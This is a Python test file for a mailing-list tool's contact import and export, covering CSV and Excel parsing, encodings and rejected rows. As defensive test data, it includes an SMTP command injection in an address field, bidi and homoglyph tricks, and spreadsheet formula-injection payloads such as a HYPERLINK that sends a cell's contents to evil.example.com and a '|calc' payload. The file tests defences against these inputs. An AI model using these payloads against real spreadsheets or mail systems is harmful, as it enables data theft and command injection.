"""Tables from anywhere: every row a person, or rejected with its line and a reason; what is exported comes back."""

import csv
import io
import zipfile
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from the_list import TheList

from pscb_mail.database import open_database
from pscb_mail.errors import UsageError
from pscb_mail.foreign import has_unsafe
from pscb_mail.people import directory, roster
from pscb_mail.people.address import parse_person
from pscb_mail.people.importing import understand
from pscb_mail.people.joining import Entry
from pscb_mail.people.subscriber import Status
from pscb_mail.people.tables import csv_text, read_table, xlsx_bytes


def people_of(data: bytes, **how):
    """Return each person as text, and each rejected row with its reason."""
    reading = understand(read_table(data), **how)
    entries = [
        f"{entry.person.name}<{entry.person.address.text}>{entry.organisation}|{entry.role}|{','.join(entry.groups)}"
        for _, entry in reading
    ]
    return entries, [(row.line, row.reason) for row in reading.rejected]


JO = "Jo Bloggs<jo@x.example>School|Head|DSLs,Heads"
TABLES = {
    "our own headings": b"address,name,organisation,role,groups\njo@x.example,Jo Bloggs,School,Head,DSLs;Heads\n",
    "any order, semicolons": b"Groups;Role;Name;Organisation;E-mail\nHeads,DSLs;Head;Jo Bloggs;School;jo@x.example\n",
    "Outlook": b'"First Name","Last Name","Company","Job Title","E-mail Address","Categories","Fax"\n'
    b'"Jo","Bloggs","School","Head","jo@x.example","Heads;DSLs",""\n',
    "Google": b"Given Name,Family Name,Organization Name,Organization Title,E-mail 1 - Value,Labels\n"
    b"Jo,Bloggs,School,Head,jo@x.example,Heads;DSLs\n",
    "Mailchimp": b"Email Address,First Name,Last Name,Company,Position,TAGS\n"
    b'jo@x.example,Jo,Bloggs,School,Head,"""Heads"",""DSLs"""\n',
    "tabs, capitals": b"EMAIL\tFULL NAME\tSCHOOL\tPOST\tTAGS\njo@x.example\tJo Bloggs\tSchool\tHead\tHeads,DSLs\n",
    "a postal address beside": b"Address,Email,Name,Organisation,Role,Groups\n1 High St,jo@x.example,Jo Bloggs,School,Head,Heads;DSLs\n",
    "a name in the address": b"Email,Organisation,Role,Groups\nJo Bloggs <jo@x.example>,School,Head,Heads;DSLs\n",
    "Excel's hint": b"sep=|\r\nEmail|Name|Organisation|Role|Groups\r\njo@x.example|Jo Bloggs|School|Head|Heads;DSLs\r\n",
    "old Macintosh": b"Email,Name,Organisation,Role,Groups\rjo@x.example,Jo Bloggs,School,Head,Heads;DSLs\r",
    "a title above": b"Safeguarding board,,,,\n\nContact list,as of 1 May,,,\nEMAIL ADDRESS,Name,Organisation,Role,Groups\n"
    b"jo@x.example,Jo Bloggs,School,Head,Heads;DSLs\n",
    "blank lines": b"\n\nEmail,Name,Organisation,Role,Groups\n\n,,,,\njo@x.example,Jo Bloggs,School,Head,Heads;DSLs\n\n",
}


@pytest.mark.parametrize("data", TABLES.values(), ids=TABLES)
def test_the_usual_tables_are_understood(data: bytes) -> None:
    assert people_of(data) == ([JO], [])


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (b"jo@x.example\nsam@x.example\n", ["<jo@x.example>||", "<sam@x.example>||"]),
        (b"Jo,jo@x.example\nSam,sam@x.example\n", ["Jo<jo@x.example>||", "Sam<sam@x.example>||"]),
        (b"jo@x.example;Jo\n", ["Jo<jo@x.example>||"]),
        (b"Jo Bloggs <jo@x.example>", ["Jo Bloggs<jo@x.example>||"]),
    ],
)
def test_a_table_without_a_heading_is_understood_by_its_addresses(data: bytes, found: list[str]) -> None:
    assert people_of(data) == (found, [])


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le", "utf-16-be"])
def test_names_survive_every_usual_encoding(encoding: str) -> None:
    data = "Email;Name\njo@x.example;J\u00f6 M\u00fcller\nsam@x.example;Zo\u00eb\n".encode(encoding)
    assert people_of(data) == (["J\u00f6 M\u00fcller<jo@x.example>||", "Zo\u00eb<sam@x.example>||"], [])


def test_an_encoding_that_is_told_is_used() -> None:
    data = "Email,Name\njo@x.example,\u0141ucja\n".encode("cp1250")
    ((_, entry),) = understand(read_table(data, "cp1250"))
    assert entry.person.name == "\u0141ucja"
    with pytest.raises(UsageError, match="no encoding"):
        read_table(data, "klingon")
    with pytest.raises(UsageError, match="not in utf-8"):
        read_table(data, "utf-8")


@pytest.mark.parametrize("encoding", ["rot13", "zlib", "base64", "bz2", "no-such"])
def test_what_makes_no_text_of_bytes_is_no_encoding(encoding: str) -> None:
    with pytest.raises(UsageError, match=f'no encoding "{encoding}"'):
        read_table(b"email\na@x.example\n", encoding)


def test_a_stray_byte_spoils_its_row_and_no_other() -> None:
    """One Windows byte in a UTF-8 file: nothing is guessed, nothing is garbled."""
    data = b"Email,Name\na@x.example,J\xc3\xb6\nb@x.example,J\xe4\nc@x.example,J\xef\xbf\xbd\nd@x.example,D\n"
    people, rejected = people_of(data)
    assert people == ["J\u00f6<a@x.example>||", "D<d@x.example>||"]
    assert [line for line, _ in rejected] == [3, 4]
    assert "--encoding" in rejected[0][1]


HEAD = b"email,name,status,since,groups\n"
ROWS = {
    "no address": (b"nobody,X,,,", "no @"),
    "two addresses in a cell": (b'"<a@x.example>,<b@x.example>",X,,,', "more than one address"),
    "two addresses in a row": (b"<a@x.example>,<b@x.example>,,,", "two addresses"),
    "a group": (b'"group:a@x.example,b@x.example;",X,,,', "one address is expected"),
    "an SMTP command": (b'"a@x.example>\r\nRCPT TO:<evil@example.com",X,,,', "cannot be seen"),
    "NUL": (b"a@x.example\0,X,,,", "U+0000"),
    "bidi": ("\u202ea@x.example,X,,,".encode(), "cannot be seen"),
    "the Kelvin sign": ("\u212aim@x.example,X,,,".encode(), "looks like"),
    "full-width": ("\uff41@x.example,X,,,".encode(), "looks like"),
    "more cells than the heading": (b"a@x.example,School, Town,,,,more", "more columns than the heading"),
    "5000 columns": (b"a@x.example" + b",x" * 5000, "more than 200 columns"),
    "a cell of 20,000": (b"a@x.example," + b"x" * 20_000, "10,000 characters"),
    "a cell of 10 MB": (b"a@x.example," + b"x" * 10_000_000, "10,000 characters"),
    "an unknown status": (b"a@x.example,X,maybe,,", 'status "maybe"'),
    "an impossible date": (b"a@x.example,X,active,31/12/2026,", "2026-12-31"),
    "a date before the year 1": (b"a@x.example,X,active,0001-01-01T00:00+14:00,", "2026-12-31"),
    "a group of 100 letters": (b"a@x.example,X,,," + b"g" * 100, "too long for a group"),
}


@pytest.mark.parametrize(("row", "reason"), ROWS.values(), ids=ROWS)
def test_a_row_that_cannot_be_taken_is_rejected_with_its_line_and_no_other(row: bytes, reason: str) -> None:
    people, rejected = people_of(HEAD + b"first@x.example,First,,,\n" + row + b"\nlast@x.example,Last,,,\n")
    assert people == ["First<first@x.example>||", "Last<last@x.example>||"]
    ((line, why),) = rejected
    assert line == 3
    assert reason in why


@pytest.mark.parametrize(
    ("since", "moment"),
    [
        ("2026-05-01", "2026-05-01T04:00:00+00:00"), ("2026-01-01 09:30", "2026-01-01T14:30:00+00:00"),
        ("2026-05-01T00:00:00Z", "2026-05-01T00:00:00+00:00"),
    ],
)  # fmt: skip
def test_a_day_begins_at_midnight_where_the_newsletter_is(since: str, moment: str) -> None:
    """West of Greenwich midnight in UTC is the day before."""
    ((_, entry),) = understand(
        read_table(f"email,since\na@x.example,{since}\n".encode()), zone=ZoneInfo("America/New_York")
    )
    assert entry.since == datetime.fromisoformat(moment)


def test_a_rejected_row_is_shown_as_one_harmless_line() -> None:
    reading = understand(read_table(b'email,name\n\x1b[31mbad,"J\xe4\n' + b"x" * 500 + b'"\n'))
    assert list(reading) == []
    (row,) = reading.rejected
    assert row.text.isprintable()
    assert len(row.text) <= 120


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "empty"),
        (b"\n\n", "empty"),
        (b"\0\0\0\0", "neither an address nor the heading"),
        (b"foo,bar\n1,2\n", "It has: foo, bar"),
        (b"A title\nJo,jo@x.example\nEmail,Name\n", "It has: A title"),
        (b"A title\n" + b"no heading\n" * 9 + b"Email\n", "It has: A title"),
        (b'email;name\na@x.example;A\n"b@x.example;x\nc@x.example;C\n', "Line 3: a quotation mark is opened"),
        (b'email,name\n"a@x.example" x,A\n', "Line 2: a quotation mark stands in the middle"),
        (b'email,name\na@x.example,"' + b"x\n" * 100_000 + b'"\n', "Line 2: a cell that begins there"),
        (b"PK\x03\x04 no zip", "Excel file cannot be read"),
        (b"\xd0\xcf\x11\xe0 old", "old kind"),
    ],
)
def test_a_file_that_cannot_be_told_apart_is_refused_as_a_whole(data: bytes, message: str) -> None:
    with pytest.raises(UsageError) as refused:
        people_of(data)
    assert message in refused.value.message
    assert refused.value.hint


def test_one_stray_cell_far_out_in_a_sheet_neither_takes_time_nor_spoils_a_row() -> None:
    """A slip with Ctrl and an arrow makes a sheet as wide and as long as they can be: 17 thousand million cells."""
    book = Workbook()
    for row in (["email", "name"], ["a@x.example", "A"], ["b@x.example", *"B" * 200]):
        book.active.append(row)
    book.active["XFD2"] = book.active["XFD99999"] = "x"
    data = io.BytesIO()
    book.save(data)
    people, rejected = people_of(data.getvalue())
    assert people == ["A<a@x.example>||"]
    assert rejected == [(3, "it has more than 200 columns.")]


def test_that_there_are_other_sheets_is_said() -> None:
    """Whoever stands on them is not read."""
    book = Workbook()
    book.active.title = "Cover"
    for row in (["email"], ["a@x.example"]):
        book.active.append(row)
    book.create_sheet("Members").append(["email"])
    data = io.BytesIO()
    book.save(data)
    table = read_table(data.getvalue())
    assert table.read_as == 'the first of 2 Excel sheets, "Cover"'
    assert len(list(table.rows)) == 2


def test_what_a_sheet_says_of_its_own_size_is_not_believed() -> None:
    """Some programs write that it is one cell large: its rows are read all the same."""
    data = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_bytes([["email"], ["a@x.example"]]))) as made,
        zipfile.ZipFile(data, "w") as to,
    ):
        for each in made.namelist():
            to.writestr(each, made.read(each).replace(b"<sheetData>", b'<dimension ref="A1"/><sheetData>'))
    assert people_of(data.getvalue()) == (["<a@x.example>||"], [])


@given(st.binary(max_size=300))
def test_whatever_the_bytes_they_are_people_or_a_sentence(data: bytes) -> None:
    for head in (b"", b"email,name\n"):
        try:
            reading = understand(read_table(head + data))
            taken = list(reading)
        except UsageError:
            continue
        assert reading.rows == len(taken) + len(reading.rejected)
        assert not any(has_unsafe(row.text) for row in reading.rejected)


def test_what_is_said_about_all_is_given_to_each() -> None:
    data = b"email,groups,status\na@x.example,Heads,active\nb@x.example,,opted_out\n"
    reading = understand(read_table(data), groups=("New",), source="a sheet", basis="consent")
    assert [(e.groups, e.source, e.basis, e.status) for _, e in reading] == [
        (("Heads", "New"), "a sheet", "consent", Status.ACTIVE),
        (("New",), "a sheet", "consent", Status.OPTED_OUT),
    ]
    reading = understand(read_table(data), status=Status.OPTED_OUT)
    assert {entry.status for _, entry in reading} == {Status.OPTED_OUT}


def test_the_user_sees_what_was_read_from_where() -> None:
    columns = understand(read_table(b"Fax,E-mail,Full name\n1,a@x.example,A\n")).columns
    assert columns.described == (("address", '"E-mail"'), ("name", '"Full name"'))
    assert columns.unused == ("Fax",)
    assert understand(read_table(b"A,a@x.example,x\n")).columns.unused == ("column 3",)


# -- export ---------------------------------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example.com?x="&A1,"click")',
    "-1+1",
    "+1",
    "@SUM(A1)",
    "|calc",
    "\uff1d1+1",
    "'=already",
    "'",
    'Quoted "Joey" Bloggs',
    "Comma, Semicolon; Tab",
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "\u0141ucja \u00d6zil \u674e",
]


@pytest.fixture
def hostile(people):
    for number, name in enumerate(HOSTILE):
        entry = Entry(
            parse_person(f"p{number}@x.example"),
            organisation=name,
            role=name,
            groups=(f"={number}", "Heads"),
            basis=name,
        )
        roster.enrol(people.db, [entry], people.origin(), source="a sheet")
        roster.edit(people.db, people.one(f"p{number}@x.example").id, people.origin(), name=name)
    people.opt_out("p1@x.example")
    people.bounce("p2@x.example")
    people.remove("p3@x.example")
    return people


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_is_exported_comes_back_as_it_was(hostile, tmp_path, kind: str) -> None:
    """Into an empty list: everybody, each with their status; into the same list: nothing changes."""
    rows = [directory.COLUMNS, *directory.rows(hostile.db)]
    data = "".join(csv_text(rows)).encode() if kind == "csv" else xlsx_bytes(rows)
    reading = understand(read_table(data))
    entries = [entry for _, entry in reading]
    assert reading.rejected == []
    assert roster.enrol(hostile.db, entries, hostile.origin()).change is None
    db = open_database(tmp_path / "other.db")
    other = TheList(db)
    roster.enrol(db, entries, other.origin())
    assert list(directory.rows(other.db)) == list(directory.rows(hostile.db))
    db.close()


def test_no_exported_cell_is_a_formula(hostile) -> None:
    for row in csv.reader(io.StringIO("".join(csv_text(directory.rows(hostile.db))))):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "|")) for cell in row)
